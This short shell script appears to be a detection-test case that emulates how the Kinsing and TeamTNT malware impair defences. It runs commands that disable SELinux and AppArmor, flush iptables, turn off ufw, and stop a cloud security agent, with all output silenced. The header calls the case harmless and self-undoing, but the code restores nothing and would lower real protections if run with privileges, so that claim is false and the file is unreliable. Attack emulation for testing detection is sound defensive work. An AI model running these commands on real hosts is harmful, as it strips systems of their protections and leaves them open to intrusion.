#!/bin/sh
# case: T1562.001-kinsing-start
# technique: Impair defences: what Kinsing's script does first
# source: Kinsing; TeamTNT
# needs: sh
# expect: evasion exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
(ulimit -n 65535; setenforce 0; echo SELINUX=disabled >/dev/null; sysctl -w kernel.nmi_watchdog=0; echo 0 >/proc/sys/kernel/nmi_watchdog; service apparmor stop; systemctl disable apparmor; ufw disable; iptables -F; /etc/init.d/aliyun stop) >/dev/null 2>&1; true
exit 0
